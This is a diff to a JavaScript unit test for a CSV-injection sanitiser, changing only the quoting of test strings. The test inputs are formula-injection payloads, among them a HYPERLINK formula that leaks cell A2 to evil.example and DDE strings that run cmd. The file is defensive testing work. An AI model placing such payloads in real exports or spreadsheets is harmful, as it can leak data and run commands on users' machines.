@@ -4,8 +4,8 @@ describe('csvSafeCell: text a spreadsheet would run as a formula (OWASP CSV inje
   it.each([
     ['=HYPERLINK("http://evil.example/?x="&A2,"Click")'],
     ["+cmd|' /C calc'!A0"],
-    ['-2+3+cmd|\' /C calc\'!A0'],
-    ['@SUM(1+1)*cmd|\' /C calc\'!A0'],
+    ["-2+3+cmd|' /C calc'!A0"],
+    ["@SUM(1+1)*cmd|' /C calc'!A0"],
     ['\t=1+1'],
     ['\r=1+1'],
     ['-'],
